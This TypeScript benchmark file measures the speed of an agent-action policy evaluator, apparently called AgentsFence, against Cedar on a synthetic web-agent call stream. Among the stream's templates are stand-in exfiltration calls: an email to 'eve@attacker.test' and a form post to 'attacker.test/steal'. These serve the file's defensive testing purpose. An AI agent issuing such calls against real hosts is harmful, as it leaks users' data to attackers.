import { performance } from 'node:perf_hooks';
import { preparsePolicySet, statefulIsAuthorized } from '@cedar-policy/cedar-wasm/nodejs';
import { classifyWeb as classify } from '../src/core/classifier';
// What the extension decides with: the browser actions' classifier and evaluator.
import { decideClassified, evaluateBrowserAction as evaluate } from '../src/core/evaluator';
import { initialState, POLICY_VERSION, TaskPolicySchema, type TaskPolicy } from '../src/core/policy';
import type { ToolCall } from '../src/core/call';
import { median, summarise, type Figure } from './stats';

/**
 * Figure 1: evaluator latency and throughput against Cedar on an equivalent policy (domain allowlist,
 * class ceilings, recipient binding) and the same call stream. AgentsFence's time includes parsing the
 * raw call and classifying it; Cedar gets the classification precomputed (untimed), which favours Cedar.
 */
const DOMAINS = ['mail.test', 'news.test'];
const RECIPIENTS = ['bob@corp.test'];

export function benchPolicy(extraEntries = 0): TaskPolicy {
  const filler = Array.from({ length: extraEntries }, (_, i) => `user${i}@corp.test`);
  const domains = Array.from({ length: extraEntries }, (_, i) => `site${i}.test`);
  return TaskPolicySchema.parse({
    version: POLICY_VERSION,
    taskId: 'bench',
    issuedAt: 0,
    expiresAt: null,
    ceilings: { COMMUNICATION: 'allow', FINANCIAL: 'block', DELETE: 'block', PERMISSION_CHANGE: 'block' },
    allow: { tools: filler.map((_, i) => `tool_${i}`), capabilities: [], classes: ['COMMUNICATION'] },
    recipients: [...RECIPIENTS, ...filler],
    domains: [...DOMAINS, ...domains],
  });
}

/** A realistic web-agent stream: mostly reading, some sends (in and out of policy), some attacks. */
export function callStream(n: number): ToolCall[] {
  const templates: ToolCall[] = [
    { tool: 'browser.navigate', args: { url: 'https://mail.test/inbox' } },
    { tool: 'browser.navigate', args: { url: 'https://news.test/search?q=agent+security' } },
    { tool: 'browser.request', args: { method: 'GET', url: 'https://mail.test/api/messages?page=2', kind: 'fetch' } },
    { tool: 'browser.request', args: { method: 'POST', url: 'https://mail.test/api/send', kind: 'fetch', body: { to: 'bob@corp.test', subject: 'Re', body: 'ok' } } },
    { tool: 'browser.request', args: { method: 'POST', url: 'https://mail.test/api/send', kind: 'fetch', body: { to: 'eve@attacker.test', body: 'dump' } } },
    { tool: 'browser.form_submit', args: { url: 'https://attacker.test/steal', method: 'POST', fields: { data: 'x' }, submitText: 'Go' } },
    { tool: 'browser.form_submit', args: { url: 'https://mail.test/compose', method: 'POST', fields: { to: 'bob@corp.test', message: 'hi' }, submitText: 'Send' } },
    { tool: 'send_email', args: { to: 'bob@corp.test', body: 'x' } },
  ];
  // Vary ids and query values so no layer can win by seeing the same string twice.
  return Array.from({ length: n }, (_, i) => {
    const t = structuredClone(templates[(i * 7 + 3) % templates.length]!);
    if (typeof t.args.url === 'string') t.args.url = `${t.args.url}${t.args.url.includes('?') ? '&' : '?'}n=${i}`;
    return t;
  });
}

const CEDAR_POLICIES = `
permit(principal, action == Action::"call", resource)
when { context has riskClass && (context.riskClass == "READ" || context.riskClass == "COMMUNICATION") };
forbid(principal, action, resource)
when { context has domains && !(DOMAINS.containsAll(context.domains)) };
forbid(principal, action, resource)
when { context has riskClass && context.riskClass != "READ" && context has recipients && !(RECIPIENTS.containsAll(context.recipients)) };
forbid(principal, action, resource)
when { context has riskClass && ["FINANCIAL", "DELETE", "PERMISSION_CHANGE", "UNKNOWN"].contains(context.riskClass) };
`;

function cedarText(policy: TaskPolicy): string {
  const set = (xs: readonly string[]) => `[${xs.map((x) => JSON.stringify(x)).join(', ')}]`;
  return CEDAR_POLICIES.replace('DOMAINS', set(policy.domains ?? [])).replace('RECIPIENTS', set(policy.recipients));
}

const ROUNDS = 9;

function timeLoop(n: number, fn: (i: number) => void): number[] {
  const samples: number[] = [];
  for (let i = 0; i < n; i++) {
    const t0 = performance.now();
    fn(i);
    samples.push((performance.now() - t0) * 1000);
  }
  return samples;
}

export interface EvaluatorBench {
  /** Decision given the classification — the same input Cedar gets. */
  oursUs: ReturnType<typeof summarise>;
  /** Whole path from an untrusted raw call: schema parse + classify + decide. */
  fullUs: ReturnType<typeof summarise>;
  cedarUs: ReturnType<typeof summarise>;
  oursPerSec: number;
  cedarPerSec: number;
  agreement: number;
}

export function runEvaluatorComparison(policy: TaskPolicy, calls: ToolCall[], psetId = 'bench'): EvaluatorBench {
  const parsed = preparsePolicySet(psetId, { staticPolicies: cedarText(policy) });
  if (parsed.type !== 'success') throw new Error(`cedar parse: ${JSON.stringify(parsed.errors)}`);
  const classified = calls.map((call) => classify(call));
  const contexts = classified.map((c) => ({ riskClass: c.riskClass, capability: c.capability, domains: c.targets.domains, recipients: c.targets.recipients }));
  const cedar = (i: number) =>
    statefulIsAuthorized({
      principal: { type: 'Agent', id: 'a' },
      action: { type: 'Action', id: 'call' },
      resource: { type: 'Tool', id: calls[i]!.tool },
      context: contexts[i]!,
      preparsedPolicySetId: psetId,
      entities: [],
    });
  const ours = (i: number) => decideClassified(policy, initialState(), calls[i]!, classified[i]!, 0);
  const full = (i: number) => evaluate(policy, initialState(), calls[i]!, 0);

  // Agreement on allow vs not-allow shows the two policies are equivalent on this stream.
  let agree = 0;
  for (let i = 0; i < calls.length; i++) {
    const a = cedar(i);
    const cedarAllows = a.type === 'success' && a.response.decision === 'allow';
    if (cedarAllows === (full(i).record.decision === 'ALLOW')) agree++;
  }
  // Warm up, then interleave rounds so both see the same machine noise.
  timeLoop(calls.length, ours);
  timeLoop(calls.length, cedar);
  timeLoop(calls.length, full);
  const oursSamples: number[] = [];
  const fullSamples: number[] = [];
  const cedarSamples: number[] = [];
  const oursRate: number[] = [];
  const cedarRate: number[] = [];
  // (Nine rounds: the throughput ratio is a median of round rates, and Cedar's rate alone moves 3× between
  // runs on a shared machine.)
  for (let round = 0; round < ROUNDS; round++) {
    const o = timeLoop(calls.length, ours);
    const c = timeLoop(calls.length, cedar);
    fullSamples.push(...timeLoop(calls.length, full));
    oursSamples.push(...o);
    cedarSamples.push(...c);
    oursRate.push(calls.length / (o.reduce((a, b) => a + b, 0) / 1e6));
    cedarRate.push(calls.length / (c.reduce((a, b) => a + b, 0) / 1e6));
  }
  return {
    oursUs: summarise(oursSamples),
    fullUs: summarise(fullSamples),
    cedarUs: summarise(cedarSamples),
    oursPerSec: median(oursRate),
    cedarPerSec: median(cedarRate),
    agreement: agree / calls.length,
  };
}

export function evaluatorFigures(): Figure[] {
  const r = runEvaluatorComparison(benchPolicy(), callStream(4000));
  const ratio = r.oursPerSec / r.cedarPerSec;
  return [
    {
      id: 'evaluator-latency',
      figure: 'Evaluator decision in process (classified call → decision record)',
      target: 'p50 ≤ 2 µs',
      measured: `p50 ${r.oursUs.p50.toFixed(2)} µs, p99 ${r.oursUs.p99.toFixed(2)} µs (Cedar p50 ${r.cedarUs.p50.toFixed(2)} µs, p99 ${r.cedarUs.p99.toFixed(2)} µs)`,
      vsFloor: { floor: 'none (absolute, in process)', value: r.oursUs.p50, unit: 'µs', target: 2 },
      verdict: r.oursUs.p50 <= 2 ? 'met' : 'missed',
      method: `4,000-call web-agent stream (ids vary per call), ${ROUNDS} interleaved rounds after warm-up; performance.now per call; includes the exfiltration-URL check, which Cedar does not do. Run through tsx, as \`npm run bench\` runs everything: the extension's bundle has no keepNames wrappers, so it pays less per call`,
      data: { ours: r.oursUs, cedar: r.cedarUs },
    },
    {
      id: 'evaluator-full-path',
      figure: 'Whole path from an untrusted raw call (zod parse + classify + decide)',
      target: 'info (no target; what the extension pays per proposal)',
      measured: `p50 ${r.fullUs.p50.toFixed(2)} µs, p99 ${r.fullUs.p99.toFixed(2)} µs`,
      verdict: 'info',
      method: 'same stream and rounds as above',
      data: { full: r.fullUs },
    },
    {
      id: 'evaluator-throughput',
      figure: 'Evaluator throughput vs @cedar-policy/cedar-wasm (preparsed, statefulIsAuthorized)',
      target: '≥ 25× Cedar',
      measured: `${Math.round(r.oursPerSec).toLocaleString('en')}/s vs ${Math.round(r.cedarPerSec).toLocaleString('en')}/s; allow/deny agreement ${(r.agreement * 100).toFixed(1)} %`,
      ratio: `${ratio.toFixed(1)}×`,
      vsFloor: { floor: '@cedar-policy/cedar-wasm throughput, same input', value: ratio, unit: '×', target: 25, atLeast: true },
      verdict: ratio >= 25 ? 'met' : 'missed',
      method: 'same stream and rounds; both get the same precomputed classification (untimed); median of round rates',
      data: { oursPerSec: r.oursPerSec, cedarPerSec: r.cedarPerSec, agreement: r.agreement },
    },
  ];
}

/** Figure 7a: evaluator time as the policy grows from 10 to 10,000 entries. */
export function growthFigure(): Figure {
  const sizes = [10, 100, 1000, 10000];
  const calls = callStream(2000);
  const p50s = sizes.map((n) => {
    const p = benchPolicy(n);
    const samples: number[] = [];
    for (let round = 0; round < 3; round++) samples.push(...timeLoop(calls.length, (i) => evaluate(p, initialState(), calls[i]!, 0)));
    return summarise(samples).p50;
  });
  const growth = p50s[3]! / p50s[0]!;
  return {
    id: 'evaluator-growth',
    figure: 'Evaluator p50 vs policy size (10 → 10,000 allow-list entries, recipients and domains)',
    target: 'flat or logarithmic, not linear',
    measured: sizes.map((n, i) => `${n}: ${p50s[i]!.toFixed(2)} µs`).join('; '),
    ratio: `${growth.toFixed(1)}× for 1000× entries`,
    verdict: growth < 10 ? 'met' : 'missed',
    method: '2,000-call stream × 3 rounds per size',
    data: { sizes, p50s },
  };
}
